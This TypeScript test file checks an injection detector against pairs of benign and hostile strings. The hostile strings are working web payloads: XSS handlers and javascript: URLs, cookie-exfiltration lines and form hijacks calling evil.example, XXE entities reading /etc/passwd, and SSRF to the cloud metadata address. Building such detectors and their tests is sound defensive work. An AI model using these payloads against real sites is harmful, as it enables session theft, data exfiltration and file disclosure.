// Markup, script and XML beside what documents say of them: each pair of lists is one decision of those detectors, at
// sensitivity 1, in a leaf of JSON and in a query's value.

import { describe, expect, test } from 'vitest'

import { coreEngine } from '../corpora/program.ts'

const engine = coreEngine()

const refused = (text: string): readonly boolean[] => [
  engine.text('json', 'value', 'body.note', text).refused,
  engine.text('query', 'value', 'query.q', text).refused,
]

interface Pair {
  readonly decision: string
  readonly honest: readonly string[]
  readonly hostile: readonly string[]
}

/** Words enough for a document. */
const AMID = 'We wrote this page for those who are new to the project and want to know how it all works. '

const PAIRS: readonly Pair[] = [
  {
    decision: 'a call that a sentence speaks of does not parse',
    honest: ['Try alert("word") in the console.', 'New alert("x") in our inbox today.'],
    hostile: [
      'alert("word") in console',
      'alert(1) in x instanceof y',
      'try{alert("word")}catch{}',
      'frames[0].alert(1)',
    ],
  },
  {
    decision: 'what is found in a page is sent elsewhere, or given markup',
    honest: ['document.querySelector("form").action', 'document.getElementById("a").value = total'],
    hostile: [
      `document.querySelector('form').action='//evil.example'`,
      'document.getElementById("a").innerHTML = "<b>x"',
      `$.getScript('//evil.example')`,
      `Function(atob('YWxlcnQoMSk='))()`,
    ],
  },
  {
    decision: 'a button has no form of a stranger',
    honest: ['<button formaction="/orders/save">Save</button>'],
    hostile: [
      '<button form=f formaction=//evil.example>x',
      `">x<input type=image formaction='https://evil.example/'`,
    ],
  },
  {
    decision: 'two anchors of one id are a list to script (HTML §7.2.2.3)',
    honest: ['<a id="a"></a><a id="b" name="b" href="#a">', '<a id="a" name="a"></a><a id="a" name="a"></a>'],
    hostile: ['<a id=config><a id=config name=url href=//evil.example/x.js>'],
  },
  {
    decision: 'a break-out ends in a comment that nothing closes',
    honest: [`path "src/*" and more`],
    hostile: [`q1"};;print()/*`, `name';self[/*x*/'alert'](1)/*`, 'x onblur=a=alert,a(1) '],
  },
  {
    decision: 'a span of code within a sentence is no link',
    honest: [
      'A scheme is never decoded, so that an input such as `%6Aavascript:alert(1)` is reported as malformed by all of these calls.',
    ],
    hostile: ['`javascript:alert(1)`', 'javascript:alert(1)', 'x=`javascript:alert(1)`'],
  },
  {
    decision: 'queries assign with a capital and blanks, attributes without',
    honest: ['T | summarize A = count(), "b", Online = min(y)'],
    hostile: ['" Onfocus = min(y) x="', '" onfocus=min(y) x="', '" onfocus = alert(y) x="'],
  },
  {
    decision: 'a declaration of an entity has a name',
    honest: [
      '## Regarding `<!DOCTYPE` and `<!ENTITY`\n\nThe parser handles the basic entities.',
      'It knows <!ELEMENT, <!ATTLIST, <!ENTITY, and <!NOTATION.',
      '`<!ENTITY` '.repeat(6),
    ],
    hostile: [
      '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
      '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://e.example/x">%b;]>',
      '<!DOCTYPE a [<!ENTITY\n\n\nb "c">]>',
      '<!ENTITY &#37; b SYSTEM "x">',
      '<!DOCTYPE a [<!ENTITY :b SYSTEM "file:///etc/passwd">]>',
    ],
  },
  {
    decision: 'an address in an attribute, not in a comparison',
    honest: ['it holds that `a.href == "file:///tutorial"` there', 'if (a.href === "file:///x") go'],
    hostile: ['<image xlink:href="file:///etc/passwd"/>', '<a b = "expect://id"/>'],
  },
  {
    decision: 'a schema that describes a document lies in the web, and pairs with a namespace',
    honest: [
      '<a xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd"/>',
      '<a xsi:noNamespaceSchemaLocation="https://schemas.example.org/note.xsd"/>',
      '<a xsi:schemaLocation="urn:iso:std:iso:20022:tech:xsd:pain.001.001.03 pain.001.001.03.xsd"/>',
      '<xs:include schemaLocation="common.xsd"/>',
    ],
    hostile: [
      '<xs:include schemaLocation="http://e.example/x.xsd"/>',
      "<xsd:redefine schemaLocation = '//e.example/x.xsd'/>",
      '<a xsi:schemaLocation="urn:a file:///etc/passwd"/>',
      '<a xsi:schemaLocation="urn:a http://169.254.169.254/latest"/>',
      '<a xsi:noNamespaceSchemaLocation="http://localhost:8080/x"/>',
      '<a xsi:schemaLocation="http://a.example/b http://a.example/b.xsd" b:schemaLocation="//e.example/x"/>',
    ],
  },
  {
    decision: 'a handler in a span of code is the span’s',
    honest: [
      'The function of `onclick="handler()"` is this one:\n\n```js\nfunction(event) { handler() }\n```',
      '| `<button onClick={handleClick}>` | `<button onClick={handleClick()}>` |',
      "It doesn't work with onClick={handleClick}, and it's not called",
      'With `onSquareClick={handleClick}` you gave the function handleClick(), you did not call it.',
    ],
    hostile: [
      '`onfocus="alert(1)"`',
      '" onfocus="save(1)',
      '" onfocus=""alert(1)""',
      '" onfocus="\'x\';alert(1)',
      '" onfocus=\' " \'+alert(1)',
      "' autofocus onfocus='location=name",
      '` onfocus=alert(1) autofocus',
      '<input value="x" onfocus="save()">',
    ],
  },
  {
    decision: 'a style ends with its quote',
    honest: ['<div style="top: 0"><a @click="go({ top: 1, behavior: 2 })">x</a></div>'],
    hostile: [
      '" style="behavior: url(x.htc)',
      '" style=x:expression(alert(1)) a="',
      "' style='-moz-binding:url(//e.example/x)",
    ],
  },
  {
    decision: 'a URL in a span of code or in quotes ends with it',
    honest: [
      '(for example `javascript:80/x`), then open(x) and print(y)',
      '"javascript:80/x" and alert(x) too',
    ],
    hostile: ['`javascript:alert(1)`', 'x="javascript:alert(1)"', "?u=javascript:'x'+alert(1)"],
  },
  {
    decision: 'a script that does not parse does nothing',
    honest: [
      "<script setup>\nimport Page from './Page.vue'\n</script>",
      '<script>\nexport default { data() { return { a: 1 } } }\n</script>',
      '<Options>\n  <Option>\n    tags `<script>` of ours\n  </Option>\n</Options>',
      `---\nscript: "<script>"\n---\n\n${AMID}`,
    ],
    hostile: [
      "<script type=module>import '//e.example/x'</script>",
      "<script type=&#109;odule a=0123456789012345678901234567890123456789>import '//e.example/x'</script>",
      '<script>import("//e.example/x")</script>',
      '<script>import /**/ ("//e.example/x")</script>',
      `${AMID}<script><!--\nlocation=name//--></script>`,
      `${AMID}<script>\`\${location=name}\`</script>`,
      `${AMID}<script>\`x\`,location=name</script>`,
      `${AMID}<script>\`x\`in(location=name)</script>`,
      `${AMID}"<script>"\\\n"+(location=name)</script>`,
      `${AMID}"<script>""+(location=name)</script>`,
      `${AMID}<svg><script>"<!--\n-->"+(location=name)</script>`,
      `${AMID}<svg><script>"&#34;+(location=name)//\n</script>`,
      `${AMID}<svg><script>\`<!--\`a-->\`+(location=name)</script>`,
      `${AMID}<svg><script>\`x\`i<!-- -->n(location=name)</script>`,
      `${AMID}<svg><script><![CDATA[location=name]]></script>`,
      `${AMID}<script language=vbscript>'\nlocation=name</script>`,
    ],
  },
  {
    decision: 'a service’s own script beside what it embeds',
    honest: [
      '<script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>',
      '<script src="https://asciinema.org/a/14.js" id="asciicast-14" async></script>',
    ],
    hostile: [
      '<script src="https://platform.twitter.com.e.example/widgets.js"></script>',
      '<script src="https://platform.twitter.com/widgets.js/../x?y"></script>',
      '<script src="//e.example/x" src="https://platform.twitter.com/widgets.js"></script>',
      '<script src="https://platform.twitter.com/widgets.js" onerror=x()></script>',
      '<script src="https://asciinema.org/a/../x.js"></script>',
      '<svg><script href=//e.example/x src=https://platform.twitter.com/widgets.js></script></svg>',
    ],
  },
  {
    decision: 'words of any alphabet beside each other are no script',
    honest: [
      'Мы уже видели инструкцию `alert(x)`, она нужна нам',
      'Когда он остановится, в консоли наберите `alert(value)`.',
    ],
    hostile: [
      'alert(1)',
      'x=alert(1)',
      '\u2003alert(1)',
      '\u00a0alert(1)',
      '\ufeffalert(1)',
      'я=alert(1)',
      '\u00c0alert(1)',
    ],
  },
  {
    decision: 'a literal that is counted down is an error',
    honest: ['### Load it with `--import`', '### `--testPathIgnorePatterns=<regex>|[array]`'],
    hostile: ["'-alert(1)-'", '"- -alert(1)//', '`-import(1)', "']--,alert(1)//"],
  },
  {
    decision: 'an anchor replaces nothing that script asks the document for',
    honest: ['An attribute <a id="attributes"></a> is a pair.', '<a name="attributes"></a>'],
    hostile: ['<form><input name=attributes>', '<img name=getElementById>'],
  },
  {
    decision: 'a member in brackets is one behind a dot',
    honest: ['$["store"]["book"]', 'this is document ["one"] of two', "['cookie']", 'config["document"]'],
    hostile: [
      'document["cookie"]',
      "self['document']['cookie']",
      "a(document['cookie'])",
      '`${document["cookie"]}`',
      "window.document['location']='//e.example'",
      "parent.postMessage(document.cookie,'*')",
      '<b @click="document[\'cookie\']">',
      "import('https:/e.example/x')",
      'fetch(`//e.example/${x}`)',
    ],
  },
  {
    decision: 'a handler’s name that a tag parts is one again once tags are taken out',
    honest: ['<b>on</b>line=1', '<td>person</td>s=f(1) of 2', 'a<b>c=d(1)'],
    hostile: [
      '" o<b>nfocus=alert(1) autofocus',
      '<img o<x>n<y>error=alert(1) src=x>',
      '<x on</x>error=alert(1)>',
    ],
  },
  {
    decision: 'letters that a page loads, and no other sheet',
    honest: [
      '<html><head><link rel="stylesheet" href="https://fonts.googleapis.com/css?family=Lato"></head></html>',
      "<html><style>@import url('https://fonts.bunny.net/css?family=lato');</style></html>",
    ],
    hostile: [
      '<html><link rel=stylesheet href=//e.example/x data-href=https://fonts.googleapis.com/></html>',
      '<html><style>@import "//e.example/x";/*@import*/url(//fonts.bunny.net/x)</style></html>',
    ],
  },
  {
    decision: 'a handler without quotes ends at a blank, and an empty one does nothing (HTML §13.2.5.38)',
    honest: [
      '<div onclick="">x</div>',
      '<label htmlFor="a">A</label> <input id="a" onChange={e => alert(e.target)} />',
      'const onResize: OnResize = useCallback((size) => { console.log(size) }, [])',
    ],
    hostile: [
      '<div onclick=""alert(1)"">',
      '<div onclick="" onfocus=alert(1)>',
      '" onfocus={alert(1)} autofocus x="',
      '" onfocus=alert&#32;(1) autofocus x="',
      '" autofocus const onfocus=alert(1) x="',
      'x let onfocus="alert (1)" autofocus',
    ],
  },
  {
    decision: 'what declares nothing, or runs nowhere, is no attack',
    honest: [
      'Stuff like `<!ENTITY p>` would do',
      '<script type="application/ld+json">\n${JSON.stringify(x)}\n</script>',
    ],
    hostile: [
      '<!DOCTYPE a [<!ENTITY p "x">]>',
      '<!ENTITY p\nSYSTEM "file:///etc/passwd">',
      '<script type="application/ld+json" src=//e.example/x>{}</script>',
      // Users upload files, and a policy of 'self' lets them run.
      '<script src=uploads/1/x.js></script>',
      '<script src="x.js"></script>',
    ],
  },
  {
    decision: 'a script in which words err, or a fence begins, does not run',
    honest: [
      'Or, in the browser, after the <script> tag,\n ```js\n var type = typeDetect;\n ```\nand so on.',
      '// This would need to be done via <script> tag injection,\n// as setting the src of the <iframe> would load a new page.',
    ],
    hostile: [
      'Look, after the <script> name,\n ```${alert(1)}```',
      'done via <script> name,\n// tag injection\nalert(1)',
      'done via <script> let tag=alert(1)//',
      "done via <script> alert,' tag injection'[alert(1)]",
    ],
  },
  {
    decision: 'a picture of a stranger’s among sentences',
    honest: [AMID + '<object data="https://a.example/x.svg" type="image/svg+xml"></object> ' + AMID],
    hostile: [
      AMID + '<object data="/up/x.svg" type="image/svg+xml"></object> ' + AMID,
      AMID + '<object data="https://a.example/x" type="text/html"></object> ' + AMID,
      '<object data="https://a.example/x.svg" type="image/svg+xml"></object>',
    ],
  },
]

describe.each(PAIRS)('$decision', ({ honest, hostile }) => {
  test.each(honest)('passes: %j', (text) => {
    expect(refused(text)).toEqual([false, false])
  })
  test.each(hostile)('refused: %j', (text) => {
    expect(refused(text)).toEqual([true, true])
  })
})
